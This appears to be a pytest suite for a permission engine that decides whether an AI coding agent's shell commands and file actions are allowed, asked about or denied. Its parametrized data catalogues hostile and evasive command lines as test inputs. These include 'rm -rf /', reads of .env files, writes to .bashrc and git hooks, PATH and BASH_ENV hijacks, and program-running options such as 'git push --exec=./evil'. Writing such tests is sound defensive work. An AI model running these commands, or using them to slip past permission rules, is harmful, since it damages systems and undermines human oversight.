"""What rules and grants say of an act: what is forbidden is never done, what is dangerous is asked for every time."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast import errors, types
from holdfast.tools import base
from holdfast.tools.permissions import risks
from holdfast.tools.permissions import rules as permissions_rules

FOLDER = "/work/project"


def law(**said: list[str]) -> permissions_rules.Policy:
    says: tuple[permissions_rules.Effect, ...] = ("deny", "ask", "allow")
    rules = tuple(permissions_rules.parse_rule(say, text) for say in says for text in said.get(say, []))
    return permissions_rules.Policy(rules, FOLDER, "/home/me")


def run(line: str, tool: str = "shell", folder: str = FOLDER) -> base.Act:
    commands, danger = risks.describe(line)
    return base.Act(tool=tool, kind="run", summary=line, detail=line, commands=commands, paths=(folder,), danger=danger)


def act(tool: str, kind: base.Kind = "change", *paths: str, **more: Any) -> base.Act:
    return base.Act(tool=tool, kind=kind, summary=tool, paths=paths, **more)


def grants(*rules: str) -> list[types.Grant]:
    return [
        types.Grant(id=number, owner="", rule=rule, conversation_id=None, at=0.0, by="me")
        for number, rule in enumerate(rules, 1)
    ]


# --- command lines -------------------------------------------------------------------------------------

LINES: list[tuple[dict[str, list[str]], str, str]] = [
    ({}, "ls", "ask"),
    ({"allow": ["shell"]}, "ls", "allow"),
    ({"allow": ["shell"]}, "for x in *; do wc $x; done > out", "allow"),
    ({"allow": ["shell"]}, "rm -rf /", "ask"),
    ({"allow": ["shell"]}, "$X", "ask"),
    ({"allow": ["shell(git diff)"]}, "git diff", "allow"),
    ({"allow": ["shell(git diff)"]}, "git diff HEAD a", "allow"),
    ({"allow": ["shell(git diff)"]}, "git diff --stat", "ask"),
    ({"allow": ["shell(git diff)"]}, "git diff -- a", "ask"),
    ({"allow": ["shell(git diff)"]}, "git diff a=b", "ask"),
    ({"allow": ["shell(git diff)"]}, "git diff +a", "ask"),
    ({"allow": ["shell(git diff *)"]}, "git diff", "allow"),
    ({"allow": ["shell(git diff *)"]}, "git diff --stat -- a=b", "allow"),
    ({"allow": ["shell(git diff *)"]}, "git push", "ask"),
    ({"allow": ["shell(git diff *)"]}, "git diff --ext-diff > x", "ask"),
    ({"allow": ["shell(git diff)"]}, "git difftool", "ask"),
    ({"allow": ["shell(git diff)"]}, "git push", "ask"),
    ({"allow": ["shell(git diff)"]}, "git diff; git push", "ask"),
    ({"allow": ["shell(git diff)"]}, "git diff | tee x", "ask"),
    ({"allow": ["shell(git diff)"]}, "git diff > x", "ask"),
    ({"allow": ["shell(git diff)"]}, "git diff 2>/dev/null", "allow"),
    ({"allow": ["shell(git diff)"]}, "git diff $(git push)", "ask"),
    ({"allow": ["shell(git diff)"]}, "git diff $x", "ask"),
    ({"allow": ["shell(git diff)"]}, "git $x", "ask"),
    ({"allow": ["shell(git diff)"]}, "cd src && git diff", "ask"),
    ({"allow": ["shell(git diff) in src/**"]}, "cd src/a && git diff", "allow"),
    ({"allow": ["shell(git diff) in src/**"]}, "cd src/../x && git diff", "ask"),
    ({"allow": ["shell(git diff) in src/**"]}, "git diff", "ask"),
    ({"allow": ["shell(git diff) in **"]}, "cd src && git diff", "allow"),
    ({"allow": ["shell(git diff)"]}, "timeout 9 git diff", "ask"),
    ({"allow": ["shell(git diff)"]}, "bash -c 'git diff'", "ask"),
    ({"allow": ["shell(git diff)"]}, "/tmp/git diff", "ask"),
    ({"allow": ["shell(git diff)"]}, "FOO=1 git diff", "ask"),
    ({"allow": ["shell(git diff)"]}, "echo hi", "ask"),
    ({"allow": ["shell(git diff)"]}, "echo hi && git diff; true", "allow"),
    ({"allow": ["shell(echo)"]}, "echo hi", "allow"),
    ({"allow": ["shell(=make test)"]}, "make test", "allow"),
    ({"allow": ["shell(=make test)"]}, "make test SHELL=x", "ask"),
    ({"allow": ["shell(=make test)"]}, "make  test", "ask"),
    ({"allow": ["shell(=uv run pytest > out)"]}, "uv run pytest > out", "allow"),
    ({"allow": ["shell(=rm -rf /)"]}, "rm -rf /", "ask"),
    ({"allow": ["start_process(ls)"]}, "ls", "ask"),
    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "git log", "allow"),
    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "git push", "deny"),
    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "git -C x push", "deny"),
    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "/usr/bin/git push", "deny"),
    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "GIT push", "deny"),
    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "FOO=1 git push", "deny"),
    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "echo $(git push)", "deny"),
    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "git push --force", "deny"),
    ({"allow": ["shell(git *)"], "deny": ["shell(git push)"]}, "git commit -m push", "allow"),
    ({"deny": ["shell(rm)"]}, "rm -rf /", "deny"),
    ({"deny": ["shell(rm)"]}, "find . -exec rm {} +", "deny"),
    ({"deny": ["shell(rm)"]}, "ls | xargs rm", "deny"),
    ({"deny": ["shell(rm)"]}, "env A=1 nohup timeout 5 rm x", "deny"),
    ({"deny": ["shell(rm)"]}, "bash -c 'ls; rm x'", "deny"),
    ({"deny": ["shell(rm)"]}, "if true; then rm x; fi", "deny"),
    ({"deny": ["shell(rm *)"]}, "rm x", "deny"),
    ({"deny": ["shell"]}, "ls", "deny"),
    ({"deny": ["*"], "allow": ["shell"]}, "ls", "deny"),
    ({"allow": ["shell"], "ask": ["shell(git push)"]}, "git push", "ask"),
    ({"allow": ["shell"], "ask": ["shell(git push)"]}, "git $x", "ask"),
    ({"allow": ["shell"], "ask": ["shell(git push)"]}, "git pull", "allow"),
    ({"allow": ["shell"], "deny": ["write_file(secret/**)"]}, "echo x > secret/y", "deny"),
    ({"allow": ["shell"], "deny": ["write_file(secret/**)"]}, "echo x > a/../SECRET/y", "deny"),
    ({"allow": ["shell"], "deny": ["write_file(secret/**)"]}, "echo x > other", "allow"),
    ({"allow": ["shell"], "deny": ["write_file"]}, "echo x > other", "deny"),
    ({"allow": ["shell"], "deny": ["write_file(~/notes/**)"]}, "echo x > ~/notes/y", "deny"),
    ({"allow": ["shell"], "deny": ["write_file(~/notes/**)"]}, "echo x > $HOME/notes/y", "deny"),
    ({"allow": ["shell"], "deny": ["shell(make) in vendor/**"]}, "make", "allow"),
]


def test_command_line_of_any_tool_is_not_covered_by_a_rule_for_its_folder() -> None:
    rules = law(allow=["build(**)"])
    assert permissions_rules.decide(act("build", "change", f"{FOLDER}/a"), rules).effect == "allow"
    line = act("build", "change", f"{FOLDER}/a", commands=(("rm", "a"),), detail="rm a")
    assert permissions_rules.decide(line, rules).effect == "ask"


@pytest.mark.parametrize(("said", "line", "verdict"), LINES)
def test_every_command_of_a_line_must_be_covered(said: dict[str, list[str]], line: str, verdict: str) -> None:
    assert permissions_rules.decide(run(line), law(**said)).effect == verdict


MALFORMED = [
    "ls)", "ls | |wc", "ls |", "ls | # wc", "ls &&", "&& ls", "ls;;", "ls\n| wc", "ls &| wc", "if true; ls; fi", "fi",
    "ls; done", "while true; do ls", "{ ls", "ls }; }", "echo 'x", 'echo "x', "echo $(ls", "echo `ls", "(ls", "ls >",
    "ls <# x", "echo *(a)", "for x; ls; done", "for -p x ls", "[[ -f x", 'echo "${x"', "in ls", "x=(a b)",
    "case x in a) ls;; esac", "f() { ls; }", "echo $((1 + 2))", "[[ -f x && $y == z ]]",
]  # fmt: skip


@pytest.mark.parametrize("line", MALFORMED)
def test_line_that_cannot_be_parsed_is_asked_for_under_a_blanket_rule(line: str) -> None:
    assert permissions_rules.decide(run(line), law(allow=["shell"])).effect == "ask"


def test_command_named_like_a_redirection_is_asked_for() -> None:
    assert permissions_rules.decide(run("'>'"), law(allow=["shell"], deny=["write_file(a)"])).effect == "ask"


# What stands on the left is allowed; nothing of what is on the right follows from it.
NOT_COVERED: list[tuple[tuple[str, ...], list[str]]] = [
    # bash and eval have variables and redirections of their own
    (
        ("shell(ls)",),
        ["BASH_ENV=./env.sh bash -c ls", "PATH=./evil bash -c ls", "eval ls > pwn", "bash -c ls > ~/.bashrc",
         "nohup bash -c ls > .git/hooks/x", "bash -c ls > src/main.py", 'ls\nbash -c "ls" > .git/hooks/pre-commit'],
    ),
    # what stands in a file becomes a command
    (
        ("shell(cat)", "shell(ls)"),
        ["[[ $(cat data.txt) -eq 0 ]]", '[ -v "$(cat data.txt)" ]; ls', "echo ${HOME:$(cat data.txt)}; ls",
         "test -v \"$(printf 'a[$(touch pwn)]')\" ; ls"],
    ),
    # the shell's own commands change the shell
    (
        ("shell(cat)", "shell(ls)", "shell(git diff)"),
        ["printf -v PATH %s ./evil; cat x", "printf -v PS4 '$(echo PS4 >> pwn)'; set -x; ls", "read PATH < f; ls",
         "printf -v 'BASH_CMDS[ls]' %s ./evil/ls; ls", "sleep 0.1 & wait -n -p 'a[$(echo WAIT >> pwn)]'; ls",
         "wait -p 'a[$(touch pwn)]' -n; ls", "set -k; git diff GIT_EXTERNAL_DIFF=evil/evil.sh", "local PATH=./evil; ls",
         "pushd /evil; ls; popd; cat x", "popd +1; ls"],
    ),
    # options that run programs
    (("shell(git grep)",), ["git grep --open-files-in-pager=evil x", "git grep '-Otouch pwn #' foo"]),
    (("shell(git ls-remote)",), ["git ls-remote --upload-pack=evil ."]),
    (("shell(git push)",), ["git push --receive-pack=evil x", "git push --exec=./evil ../x"]),
    (("shell(git fetch)",), ["git fetch --upload-pac=evil .", "x=--upload-pack=./evil; git fetch $x ."]),
    (("shell(git log)",), ["git log --outpu=src/x"]),
    (("shell(sort)",), ["sort --compress-prog=evil x"]),
    (("shell(go vet)",), ["go vet --vettool=evil"]),
    (("shell(make test)",), ["make test SHELL=evil/evil.sh", "make test -f evil.mk", "make -C evil test"]),
    (("shell(git diff)",), ["x=--output=src/main.py; git diff $x", "echo push | xargs -I diff git diff"]),
    (("shell(rg)",), ["x=--pre=./evil; rg $x foo"]),
    (("shell",), ["tar xf a --checkpoint=1 --checkpoint-act=exec=evil", "tar -xOI evil -f a"]),
    # words read otherwise than the program reads them
    (
        ("shell(cat)", "shell(echo)", "shell(find *)"),
        ["sed -n p -e '1e echo SED >> pwn' README.md", "python -W ignore -c 'evil'", "env -C /evil cat x",
         "find . -maxdepth 0 -exec xargs -I + sh -c 'touch pwn' \\;", "echo sh | xargs -I cat cat -c 'touch pwn'"],
    ),
    # elsewhere
    (("shell(make test)", "shell(cat)"), ["cd sub && make test", "cd /evil && cat x", "env -C evil make test"]),
    (("shell(uniq)", "shell(date)", "shell(pytest)"), ["uniq in .git/hooks/x", "date -s tomorrow", "pytest -p evil"]),
    (("shell(curl)", "shell(xxd)"), ["curl -o/home/u/.bashrc http://e", "xxd -r p .git/hooks/pre-commit"]),
    (("shell(cat)", "shell(tee)"), ["cat .env", "cat .e*", "cat prod.env", "x=.env; cat $x", "tee .bashrc < x"]),
]  # fmt: skip


@pytest.mark.parametrize(("rules", "line"), [(rules, line) for rules, lines in NOT_COVERED for line in lines])
def test_a_narrow_rule_covers_nothing_more_than_its_words(rules: tuple[str, ...], line: str) -> None:
    assert permissions_rules.decide(run(line), law(allow=list(rules))).effect == "ask"
    assert (
        permissions_rules.decide(
            run(line), law(), grants(*rules, *(f"{rule} in {FOLDER}" for rule in rules[1:]))
        ).effect
        == "ask"
    )


# What is forbidden on the left may hide on the right: a person is asked, whatever else is allowed.
MAY_HIDE: list[tuple[str, list[str]]] = [
    ("shell(git status)", ["x=status; git $x", "git -C $x log", "git $x status"]),
    (
        "shell(rm)",
        ["$y", "xargs < list env", "timeout -s KILL 5 rm x", "alias ls=rm; ls", "env $x y",
         "echo x | xargs -I % $y", "find . -exec $x {} +", "bash -c \"$x\"", "awk 'BEGIN{system(\"rm x\")}'", "echo 'x",
         "ls ${x@P}", "cat <<E\nx"],
    ),
    (
        "write_file(private/**)",
        ["echo x > $y", "cd $y && echo x > b", "cd a; cd private; echo x > b", "false && cd a; echo x > private/b",
         "tee private/b", "cp a private/b", "cd - && echo x > b", "echo x > priv*/b", "eval $x"],
    ),
    ("read_file(private/**)", ["cat private/a", "cd private && cat a", "wc < private/a", "cat < $x"]),
    ("shell(make) in vendor/**", ["cd vendor/x && make"]),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "line"), [(rule, line) for rule, lines in MAY_HIDE for line in lines])
def test_where_something_forbidden_may_hide_only_a_person_can_allow_it(rule: str, line: str) -> None:
    said = permissions_rules.decide(run(line), law(deny=[rule], allow=["shell"]), grants("shell"))
    assert (said.effect, said.maybe_denied, said.grants) == ("ask", True, ())


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("write_file(private/**)", "cd private && echo x > b.txt"),
        ("write_file(private/**)", "cd private; echo x > b.txt"),
        ("write_file(config/**)", "bash -c 'echo hi' > config/x"),
        ("shell(rm)", "rm x; $y"),
        ("shell(git push)", "git push; awk '{system(1)}'"),
        ("edit_file(private/**)", "echo x > private/b"),
        ("write_file(private/**)", "pushd private; echo x > b"),
        ("shell(rm)", "hash -p /bin/rm ls; ls"),
        ("shell(python)", "python $x"),
        ("shell(docker run)", "docker run $x"),
        ("shell(sudo)", "sudo $x"),
        ("shell(rm)", "sh -c 'r\"\"m x' $y"),
    ],
)
def test_what_is_forbidden_is_found_beside_what_is_not_understood(rule: str, line: str) -> None:
    assert permissions_rules.decide(run(line), law(deny=[rule], allow=["shell"])).effect == "deny"


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("shell(git push)", "make -j4 test 2>&1 | tail -20"),
        ("shell(git push)", "git diff HEAD -- a"),
        ("shell(rm)", "grep rm src"),
        ("shell(rm)", "cd src && pytest -q"),
        ("shell(rm)", "git merge --continue; git ls-files --exclude-standard | head"),
        ("shell(rm)", "find src -name '*.py'"),
        ("write_file(private/**)", "cd src && make > build.log"),
        ("write_file(private/**)", "echo x > /tmp/a"),
    ],
)
def test_what_cannot_be_the_forbidden_is_not_held_up(rule: str, line: str) -> None:
    assert permissions_rules.decide(run(line), law(deny=[rule], allow=["shell"])).effect == "allow"


# A denied program is run without being named openly, or by a program that is not known to run others.
NOT_CHECKED = [
    "time -p rm x", "time -- rm x", "coproc NAME { rm x; }", "coproc NAME rm x", "compgen -C 'rm x'",
    "prlimit --nofile=9 rm x", "perf stat rm x", "sg staff -c 'rm x'", "run-parts --arg=x dir",
    "gcc -wrapper rm,x a.c", "/lib64/ld-linux-x86-64.so.2 /bin/rm x", "printf '!rm x\\n' | ed",
    "printf 'a:\\n\\trm x\\n' | make -f -", "cat commands | ed", "cat rules | make -f -", "make -sf x",
    "make SHELL=x", "make --ev 'a: ; rm x'", "sort --co=rm x", "git push --exe=rm", "git push --e=rm",
    "git push --rece rm", "git fetch --upl=rm", "pytest --tx popen//python=rm", "pytest -qo addopts=x",
    "npm test --script-sh=rm",
    "mypy --python-e=rm", "go test -exec rm", "./build.sh", "timeout 60 pytest", "make > build.log", "git diff $x",
    "for f in a b; do wc $f; done", "find . -name '*.py' -exec wc -l {} +",
]  # fmt: skip


@pytest.mark.parametrize("line", NOT_CHECKED)
def test_line_that_cannot_be_checked_against_a_deny_rule_is_asked_for(line: str) -> None:
    """Denied is better still. Whether a person is asked with or without a warning depends on what was recognised."""
    rules = law(deny=["shell(rm)"], allow=["shell"])
    said = permissions_rules.decide(run(line), rules)
    assert said.effect == "deny" or (said.effect == "ask" and (said.unclear or said.maybe_denied or run(line).danger))
    assert permissions_rules.decide(run(line), law(deny=["shell(rm)"])).effect != "allow"
    # Whoever looked at this very line can allow it, unless the denied program was recognised in it.
    if said.unclear:
        assert permissions_rules.decide(run(line), rules, grants(*said.grants)).effect == "allow"


def test_program_that_a_rule_names_is_vouched_for() -> None:
    rules = law(deny=["shell(rm)"], allow=["shell", "shell(prlimit *)", "shell(=./build.sh > log)"])
    assert permissions_rules.decide(run("prlimit --nofile=9 ls"), rules).effect == "allow"
    assert permissions_rules.decide(run("./build.sh > log"), rules).effect == "allow"
    assert permissions_rules.decide(run("prlimit --nofile=9 rm x"), rules).maybe_denied
    assert permissions_rules.decide(run("./build.sh"), rules).unclear
    assert permissions_rules.decide(run("./build.sh"), law(ask=["shell(rm)"], allow=["shell"])).effect == "ask"


def test_what_one_tool_may_not_do_its_like_may_not() -> None:
    assert permissions_rules.decide(run("rm x", "start_process"), law(deny=["shell(rm)"])).effect == "deny"
    edit = act("edit_file", "change", "/work/project/private/x")
    assert permissions_rules.decide(edit, law(deny=["write_file(private/**)"])).effect == "deny"
    assert permissions_rules.decide(run("ls", "start_process"), law(allow=["shell(ls)"])).effect == "ask"


def test_a_permission_holds_where_it_was_given() -> None:
    given = grants(*permissions_rules.suggest_grants(run("./build.sh"), law()))
    assert permissions_rules.decide(run("./build.sh"), law(), given).effect == "allow"
    assert permissions_rules.decide(run("./build.sh", folder="/work/cloned"), law(), given).effect == "ask"
    cloned = permissions_rules.Policy((), "/work/cloned")
    assert permissions_rules.decide(run("./build.sh", folder="/work/cloned"), cloned, given).effect == "ask"
    looks = grants(*permissions_rules.suggest_grants(run("git status"), law()))
    assert permissions_rules.decide(run("git status"), law(), looks).effect == "allow"
    assert (
        permissions_rules.decide(run("git status", folder=f"{FOLDER}/node_modules/evil"), law(), looks).effect == "ask"
    )
    rules = law(allow=["shell(make test)", "shell(=make)"])
    for line in ("make test", "make"):
        assert permissions_rules.decide(run(line), rules).effect == "allow"
        assert permissions_rules.decide(run(line, folder=f"{FOLDER}/node_modules/evil"), rules).effect == "ask"


# --- files and the rest --------------------------------------------------------------------------------

FILES: list[tuple[dict[str, list[str]], base.Act, str]] = [
    ({}, act("read_file", "look", "/work/project/a"), "allow"),
    ({}, act("read_file", "look", "/work/project/.env", danger="It may hold keys."), "ask"),
    ({"allow": ["read_file"]}, act("read_file", "look", "/work/project/.env", danger="It may hold keys."), "ask"),
    ({"deny": ["read_file(**/.env)"]}, act("read_file", "look", "/work/project/x/.env", danger="Keys."), "deny"),
    ({"deny": ["read_file(**/.env)"]}, act("read_file", "look", "/work/project/x/.ENV"), "deny"),
    ({"ask": ["read_file(/work/other/**)"]}, act("read_file", "look", "/work/other/x"), "ask"),
    ({}, act("write_file", "change", "/work/project/a"), "ask"),
    ({"allow": ["write_file(src/**)"]}, act("write_file", "change", "/work/project/src/a/b"), "allow"),
    ({"allow": ["write_file(src/**)"]}, act("write_file", "change", "/work/project/srcx/b"), "ask"),
    ({"allow": ["write_file(src/**)"]}, act("write_file", "change", "/elsewhere/src/b"), "ask"),
    ({"allow": ["write_file(src/*)"]}, act("write_file", "change", "/work/project/src/a/b"), "ask"),
    ({"allow": ["write_file(src/**)"]}, act("write_file", "change", "/work/project/src/a", "/etc/x"), "ask"),
    ({"allow": ["write_file(~/notes/*)"]}, act("write_file", "change", "/home/me/notes/a"), "allow"),
    ({"allow": ["write_file(src/**)"]}, act("edit_file", "change", "/work/project/src/a"), "ask"),
    ({"allow": ["write_file(src)"]}, act("write_file", "change"), "ask"),
    ({}, act("github__list", "reach"), "ask"),
    ({"allow": ["github__*"]}, act("github__list", "reach"), "allow"),
    ({"allow": ["github__*"]}, act("gitlab__list", "reach"), "ask"),
    ({"allow": ["github__*"], "deny": ["github__delete"]}, act("github__delete", "reach"), "deny"),
    ({"allow": ["custom"]}, act("custom", "run"), "allow"),
    ({"allow": ["custom"], "deny": ["custom(rm)"]}, act("custom", "run", detail="ls"), "ask"),
]


@pytest.mark.parametrize(("said", "what", "verdict"), FILES)
def test_every_path_of_an_act_must_be_covered(said: dict[str, list[str]], what: base.Act, verdict: str) -> None:
    assert permissions_rules.decide(what, law(**said)).effect == verdict


def test_a_grant_counts_before_a_rule_that_asks_and_not_before_one_that_forbids() -> None:
    given = grants("shell(git push)")
    assert permissions_rules.decide(run("git push"), law(ask=["shell(git push)"]), given).effect == "allow"
    assert permissions_rules.decide(run("git push"), law(ask=["shell(git push)"], allow=["shell"])).effect == "ask"
    assert permissions_rules.decide(run("git push"), law(deny=["shell(git push)"]), given).effect == "deny"
    assert permissions_rules.decide(run("git push -f"), law(), given).effect == "ask"
    assert (
        permissions_rules.decide(run("git $x"), law(deny=["shell(git push)"]), grants("shell(git *)")).effect == "ask"
    )


def test_the_verdict_names_the_rule() -> None:
    assert (
        permissions_rules.decide(run("git diff"), law(allow=["shell(git diff)"])).origin
        == "rule: allow shell(git diff)"
    )
    assert (
        permissions_rules.decide(run("git diff"), law(), grants("shell(git diff)")).origin == "grant 1: shell(git diff)"
    )
    assert permissions_rules.decide(run("git push"), law(deny=["shell(git)"])).origin == "rule: deny shell(git)"


def test_a_grant_that_cannot_be_read_allows_nothing() -> None:
    assert (
        permissions_rules.decide(
            run("ls"), law(), grants("shell(", "", "shell()", "sh ell", "shell(env)", "shell(> x)")
        ).effect
        == "ask"
    )


# --- what is remembered --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("what", "rules"),
    [
        (run("git diff HEAD"), (f"shell(git diff) in {FOLDER}",)),
        (run("git diff | head x"), (f"shell(git diff) in {FOLDER}", f"shell(head) in {FOLDER}")),
        (run("git diff | head -5"), (f"shell(=git diff | head -5) in {FOLDER}",)),
        (run("cd src && git diff"), (f"shell(=cd src && git diff) in {FOLDER}",)),
        (run("rm build.log"), (f"shell(=rm build.log) in {FOLDER}",)),
        (run("rm 'a b'"), (f"shell(=rm 'a b') in {FOLDER}",)),
        (run("ls > out.txt"), (f"shell(=ls > out.txt) in {FOLDER}",)),
        (run("echo ') in /'"), (f"shell(=echo ') in /') in {FOLDER}",)),
        (run("uv run pytest"), (f"shell(=uv run pytest) in {FOLDER}",)),
        (run("docker exec db psql"), (f"shell(=docker exec db psql) in {FOLDER}",)),
        (run("cargo run"), (f"shell(=cargo run) in {FOLDER}",)),
        (run("gh api user"), (f"shell(=gh api user) in {FOLDER}",)),
        (run("uniq in out"), (f"shell(=uniq in out) in {FOLDER}",)),
        (run("frobnicate $x"), (f"shell(=frobnicate $x) in {FOLDER}",)),
        (run("make test", "start_process"), (f"start_process(=make test) in {FOLDER}",)),
        (run("make", folder="/work/a (b)"), ()),
        (run("make", folder="/work/a*"), ()),
        (run("make\nls"), ()),
        (run("make "), ()),
        (run("rm -rf /"), ()),
        (run("python -c x"), ()),
        (run("$X"), ()),
        (act("write_file", "change", "/work/project/src/a.py"), ("write_file(/work/project/src/**)",)),
        (act("write_file", "change", "/elsewhere/a.py"), ("write_file(/elsewhere/a.py)",)),
        (act("write_file", "change", "/work/project/a*b"), ()),
        (act("write_file", "change", "/work/project/a", "/work/project/b*"), ()),
        (act("write_file", "change", "/work/project/a\nb/c"), ()),
        (act("write_file", "change", "/work/project/x", danger="Look."), ()),
        (act("github__list", "reach"), ("github__list",)),
        (act("custom", "run"), ()),
    ],
)
def test_what_would_be_remembered(what: base.Act, rules: tuple[str, ...]) -> None:
    assert permissions_rules.suggest_grants(what, law()) == rules
    if rules:
        assert permissions_rules.decide(what, law(), grants(*rules)).effect == "allow"


WORD = st.sampled_from(
    ["git", "diff", "rm", "-r", "push", "ls", "$x", "*", "> out", "&&", ";", "|", "make", "echo", "'a b'"]
)


@given(st.lists(WORD, max_size=8).map(" ".join))
def test_for_any_line_what_is_remembered_allows_that_line(line: str) -> None:
    what = run(line)
    rules = permissions_rules.suggest_grants(what, law())
    if rules:
        assert permissions_rules.decide(what, law(), grants(*rules)).effect == "allow"


@given(st.lists(WORD, max_size=8).map(" ".join), st.lists(WORD, max_size=8).map(" ".join))
def test_for_any_line_what_one_is_granted_for_never_allows_a_dangerous_one(first: str, second: str) -> None:
    rules = permissions_rules.suggest_grants(run(first), law())
    if run(second).danger:
        assert permissions_rules.decide(run(second), law(), grants(*rules)).effect == "ask"


@given(st.text(), st.sampled_from(["allow", "ask", "deny"]))
def test_for_any_text_a_rule_is_read_or_refused(text: str, say: permissions_rules.Effect) -> None:
    try:
        rule = permissions_rules.parse_rule(say, text)
    except errors.SettingInvalid:
        return
    permissions_rules.decide(run("ls"), permissions_rules.Policy((rule,)))


@pytest.mark.parametrize(
    "text",
    [
        "",
        "shell(",
        "shell()",
        "sh ell",
        "shell(a",
        "a)b",
        "shell('x)",
        "shell(\x1b)",
        "s*l",
        "shell(ls) in",
        "shell in x",
        "shell(> x)",
        "shell(uv run pytest)",
        "shell(python *)",
        "start_process(env)",
        "shell(a | b)",
    ],
)
def test_a_rule_that_cannot_be_read_is_refused_with_its_place(text: str) -> None:
    with pytest.raises(errors.SettingInvalid, match=r"`permissions\.allow`"):
        permissions_rules.parse_rule("allow", text, "`permissions.allow`: ")
